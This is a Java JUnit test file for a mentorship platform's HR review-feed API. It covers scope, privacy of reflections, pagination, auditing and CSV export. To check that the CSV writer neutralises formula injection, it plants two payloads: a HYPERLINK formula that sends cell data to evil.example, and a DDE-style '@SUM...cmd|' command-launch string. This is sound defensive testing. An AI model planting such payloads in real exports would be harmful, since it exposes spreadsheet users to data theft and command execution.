package io.mentorhub.engine.api;

import static io.mentorhub.engine.api.MentorshipFixture.expect;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * The HR review feed over the mentorship fixture: what each participant's entry holds, that reflections appear only
 * where their author shared them for review — in JSON and CSV, for every role — that CSV cells cannot run as
 * formulas, that each caller sees only their scope, and that every export is audited.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ReviewFeedTest {

    static final String PERIOD = "2026-11-01..2027-12-31";
    ApiTestSupport api;
    MentorshipFixture fixture;

    /** H2 here; PostgresReviewFeedIT runs the same tests on PostgreSQL. */
    protected ApiTestSupport createSupport() throws Exception {
        return new ApiTestSupport();
    }

    @BeforeAll
    void start() throws Exception {
        api = createSupport();
        fixture = new MentorshipFixture(api);
        // mentee-1 reaches the milestone of their goal, and completes the course the goal links.
        Map<String, Object> milestone = new LinkedHashMap<>(Map.of("title", "First presentation",
                "due_date", "2027-03-01", "goal_id", fixture.goal.get("1"), "reached_on", "2027-02-20",
                "pairing_id", fixture.pairing1));
        expect(200, api.call("PUT", "/api/milestones/" + fixture.milestone.get("1"), fixture.key.get("mentee-1"),
                milestone));
        Map<String, Object> goal = new LinkedHashMap<>(MentorshipFixture.goalBody("mentee-1"));
        goal.put("lms_course_ids", List.of("course-101"));
        goal.put("pairing_id", fixture.pairing1);
        expect(200, api.call("PUT", "/api/goals/" + fixture.goal.get("1"), fixture.key.get("mentee-1"), goal));
        api.database.inTransaction(tx -> {
            tx.update("INSERT INTO course_completion (person_id, course_id, completed_on, source, recorded_at) "
                    + "VALUES (?, ?, ?, ?, ?), (?, ?, ?, ?, ?)",
                    "mentee-1", "course-101", java.time.LocalDate.parse("2027-03-05"), "moodle", Instant.now(),
                    "mentee-1", "course-999", java.time.LocalDate.parse("2027-03-06"), "moodle", Instant.now());
            return null;
        });
        // A shared reflection a spreadsheet would run as a formula.
        Map<String, Object> body = MentorshipFixture.reflectionBody("SHARED_FOR_REVIEW", null);
        body.put("text", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        expect(201, api.call("POST", "/api/pairings/" + fixture.pairing2 + "/reflections",
                fixture.key.get("mentee-2"), body)).body().path("id").asText();
    }

    @AfterAll
    void stop() throws Exception {
        api.close();
    }

    private JsonNode feed(String caller, String query) throws Exception {
        return expect(200, api.call("GET", "/api/reports/review-feed?period=" + PERIOD + query, fixture.key.get(caller),
                null)).body();
    }

    private static JsonNode entry(JsonNode feed, String person) {
        for (JsonNode entry : feed.path("items")) {
            if (entry.path("person_id").asText().equals(person)) {
                return entry;
            }
        }
        throw new AssertionError(person + " is not in " + feed);
    }

    @Test
    void anEntryHoldsTheParticipationGoalsMilestonesCoursesAndOnlySharedReflections() throws Exception {
        JsonNode feed = feed("hr_admin", "");
        List<String> people = new ArrayList<>();
        feed.path("items").forEach(e -> people.add(e.path("person_id").asText()));
        assertEquals(List.of("mentee-1", "mentee-2", "mentor-1", "mentor-2"), people, "ordered by person, no outsider");

        JsonNode mentee = entry(feed, "mentee-1");
        assertEquals("Eve Mentee", mentee.path("name").asText());
        assertEquals("2026-11-01", mentee.path("period_start").asText());
        JsonNode participation = mentee.path("participations").get(0);
        assertEquals(1, mentee.path("participations").size());
        assertEquals("Engineering mentoring", participation.path("program_name").asText());
        assertEquals("MENTEE", participation.path("role").asText());
        assertEquals("Maya Mentor", participation.path("pairings").get(0).path("partners").get(0).asText());
        assertEquals("ACTIVE", participation.path("pairings").get(0).path("state").asText());
        assertEquals(1, participation.path("sessions_held").asInt());
        assertEquals("IN_PROGRESS", participation.path("goals").get(0).path("status").asText());
        assertEquals(20, participation.path("goals").get(0).path("progress_percent").asInt());
        assertEquals("2027-02-20", participation.path("milestones_reached").get(0).path("reached_on").asText());
        assertEquals(1, participation.path("courses_completed").size(), "only the course a goal links");
        assertEquals("course-101", participation.path("courses_completed").get(0).path("course_id").asText());
        assertEquals(1, participation.path("shared_reflections").size());
        assertEquals(fixture.reflection.get("mentee-1/SHARED_FOR_REVIEW"),
                participation.path("shared_reflections").get(0).path("reflection_id").asText());

        JsonNode mentor = entry(feed, "mentor-1").path("participations").get(0);
        assertEquals("MENTOR", mentor.path("role").asText());
        assertEquals(0, mentor.path("goals").size(), "the mentee owns the goal");
        assertEquals(0, mentor.path("shared_reflections").size(), "the mentor shared nothing");
        assertEquals(1, mentor.path("sessions_held").asInt());
    }

    @Test
    void privateAndPairReflectionsNeverAppearInAnyFormatForAnyRole() throws Exception {
        for (String caller : List.of("hr_admin", "integration", "pm", "pm-other", "mentor-1", "mentee-1", "mentor-2",
                "mentee-2", "outsider")) {
            for (String format : List.of("json", "csv")) {
                ApiTestSupport.Response response = expect(200, api.call("GET", "/api/reports/review-feed?period="
                        + PERIOD + "&format=" + format, fixture.key.get(caller), null));
                String raw = new String(response.raw().body(), StandardCharsets.UTF_8);
                assertFalse(raw.contains("PRIVATE note"), caller + " " + format);
                assertFalse(raw.contains("PAIR note"), caller + " " + format);
            }
        }
    }

    @Test
    void theCsvHasOneRowPerPersonAndProgramAndNoCellRunsAsAFormula() throws Exception {
        ApiTestSupport.Response response = expect(200, api.call("GET", "/api/reports/review-feed?period=" + PERIOD
                + "&format=csv", fixture.key.get("hr_admin"), null));
        assertTrue(response.header("Content-Type").startsWith("text/csv"), response.header("Content-Type"));
        assertTrue(response.header("Content-Disposition").contains("review-feed-"));
        String csv = new String(response.raw().body(), StandardCharsets.UTF_8);
        String[] lines = csv.split("\r\n");
        assertEquals(5, lines.length, "header and four participants");
        assertTrue(lines[0].startsWith("\"person_id\",\"employee_number\",\"name\""));
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")
                || csv.contains(": =HYPERLINK"), "the formula is neutralised or not at the start of its cell");
        for (String line : lines) {
            for (String cell : line.split("\",\"")) {
                String value = cell.replaceFirst("^\"", "");
                assertFalse(!value.isEmpty() && "=+-@".indexOf(value.charAt(0)) >= 0, "cell runs as a formula: " + cell);
            }
        }
        assertTrue(csv.contains("Present at the all-hands [IN_PROGRESS 20%]"));
    }

    @Test
    void aLoneFormulaCellIsPrefixed() throws Exception {
        // A goal title a participant controls entirely, after another goal in the same cell; then the cell rule itself.
        Map<String, Object> goal = new LinkedHashMap<>(MentorshipFixture.goalBody("mentee-2"));
        goal.put("title", "@SUM(1+1)*cmd|' /C calc'!A0");
        expect(201, api.call("POST", "/api/pairings/" + fixture.pairing2 + "/goals", fixture.key.get("mentee-2"), goal));
        String csv = new String(expect(200, api.call("GET", "/api/reports/review-feed?period=" + PERIOD
                + "&format=csv&person_id=mentee-2", fixture.key.get("hr_admin"), null)).raw().body(),
                StandardCharsets.UTF_8);
        // Goals due the same day come in id order: the formula title is either inside the cell or prefixed at its start.
        assertTrue(csv.contains("\"Present at the all-hands [IN_PROGRESS 20%]; @SUM")
                || csv.contains("\"'@SUM(1+1)*cmd|' /C calc'!A0 [IN_PROGRESS 20%]; Present"), csv);
        assertEquals("\"'=1+1\"", csvCell("=1+1"));
        assertEquals("\"'@cmd\"", csvCell("@cmd"));
        assertEquals("\"'-2+3\"", csvCell("-2+3"));
        assertEquals("\"a \"\"quoted\"\" word\"", csvCell("a \"quoted\" word"));
    }

    private static String csvCell(String value) throws Exception {
        var cell = io.mentorhub.engine.review.ReviewFeedCsv.class.getDeclaredMethod("cell", String.class);
        cell.setAccessible(true);
        return (String) cell.invoke(null, value);
    }

    @Test
    void eachCallerSeesOnlyTheirScope() throws Exception {
        assertEquals(List.of(), people(feed("pm-other", "")), "pm-2 manages only the Sales program, which has no pairs");
        assertEquals(List.of("mentee-1", "mentee-2", "mentor-1", "mentor-2"), people(feed("pm", "")));
        assertEquals(List.of("mentee-1"), people(feed("mentee-1", "")), "a participant sees their own entry");
        assertEquals(List.of(), people(feed("outsider", "")));
        assertEquals(List.of("mentor-2"), people(feed("integration", "&person_id=mentor-2")));
        assertEquals(List.of(), people(feed("hr_admin", "&program_id=" + fixture.otherProgramId)),
                "the pairings are in the Engineering program");
    }

    @Test
    void pagesWalkEveryoneOnceAndAPeriodBeforeThePairingsIsEmpty() throws Exception {
        List<String> seen = new ArrayList<>();
        String cursor = "";
        do {
            JsonNode page = feed("hr_admin", "&limit=1" + cursor);
            seen.addAll(people(page));
            cursor = page.path("next_cursor").isNull() ? null : "&cursor=" + page.path("next_cursor").asText();
        } while (cursor != null);
        assertEquals(List.of("mentee-1", "mentee-2", "mentor-1", "mentor-2"), seen);
        assertEquals(0, expect(200, api.call("GET", "/api/reports/review-feed?period=2025-H1", fixture.key.get("hr_admin"),
                null)).body().path("items").size());
    }

    @Test
    void everyExportIsAuditedWithWhoWhatAndWhose() throws Exception {
        expect(200, api.call("GET", "/api/reports/review-feed?period=" + PERIOD + "&format=csv&person_id=mentee-1",
                fixture.key.get("integration"), null));
        JsonNode audit = expect(200, api.admin("GET", "/api/audit?limit=5", null)).body().path("items");
        JsonNode last = null;
        for (JsonNode entry : audit) {
            if (entry.path("action").asText().equals("review_feed.export")) {
                last = entry;
                break;
            }
        }
        assertTrue(last != null, audit.toString());
        assertTrue(last.path("actor").asText().startsWith("integration:"), last.toString());
        assertEquals(PERIOD, last.path("target_id").asText());
        assertTrue(last.path("detail").toString().contains("csv"), last.toString());
        assertTrue(last.path("detail").toString().contains("mentee-1"), last.toString());
    }

    @Test
    void badRequestsAreRefusedAndChangeNothing() throws Exception {
        Map<String, Long> before = api.rowCounts();
        for (String query : List.of("", "?period=", "?period=2027-Q5", "?period=2027-02-30..2027-03-01",
                "?period=2027-06-30..2027-01-01", "?period=2020-01-01..2027-01-01", "?period=2027&format=xml",
                "?period=2027&format=csv&cursor=mentee-1", "?period=2027&program_id=not-a-uuid", "?period=2027&limit=0",
                "?period=2027&colour=blue", "?period=1066")) {
            ApiTestSupport.Response response = api.call("GET", "/api/reports/review-feed" + query,
                    fixture.key.get("hr_admin"), null);
            assertEquals(400, response.status(), query + " " + response);
            assertEquals("invalid-parameter", response.code(), query);
        }
        assertEquals(before, api.rowCounts(), "a refused export writes no audit entry");
        assertEquals(403, api.call("GET", "/api/reports/review-feed?period=2027&person_id=mentee-2",
                fixture.key.get("mentee-1"), null).status());
    }

    private static List<String> people(JsonNode feed) {
        List<String> people = new ArrayList<>();
        feed.path("items").forEach(e -> people.add(e.path("person_id").asText()));
        return people;
    }
}
